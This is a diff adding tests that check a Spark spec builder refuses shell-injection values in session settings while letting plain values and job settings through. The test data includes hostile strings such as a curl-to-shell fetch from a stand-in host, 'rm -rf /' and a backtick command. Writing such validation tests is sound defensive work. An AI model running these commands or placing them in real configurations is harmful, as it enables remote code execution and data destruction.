@@ -203,3 +203,14 @@ describe('states (spec §8.6, §9.2)', () => {
     });
   });
 });
+
+describe('hostile values', () => {
+  it.each([['$(curl evil.example | sh)'], ['a;rm -rf /'], ['`id`'], ['x && y'], ['two words'], ["it's"], ['a\nb']])('a session setting %j is refused, not passed to the operator\'s shell', (v) => {
+    expect(thrown(() => buildSparkConnect({ name: 's', namespace: 'n', sparkConf: { 'spark.sql.x': v } }), SparkError)).toMatchObject({ code: 'unsafe_spark_conf', field: 'spark_conf.spark.sql.x' });
+  });
+
+  it('plain values pass, and job settings (no shell in the way) are not restricted', () => {
+    expect(buildSparkConnect({ name: 's', namespace: 'n', sparkConf: { 'spark.jars': 's3a://b/x.jar,https://repo/y.jar', 'spark.executor.memoryOverhead': '512m', 'spark.hadoop.fs.s3a.endpoint': 'http://minio:9000' } }).spec.sparkConf).toBeDefined();
+    expect(buildSparkApplication({ name: 'j', namespace: 'n', mainApplicationFile: 'a.py', sparkConf: { 'spark.driver.extraJavaOptions': '-Da=b -Dc=d' } }).spec.sparkConf).toEqual({ 'spark.driver.extraJavaOptions': '-Da=b -Dc=d' });
+  });
+});
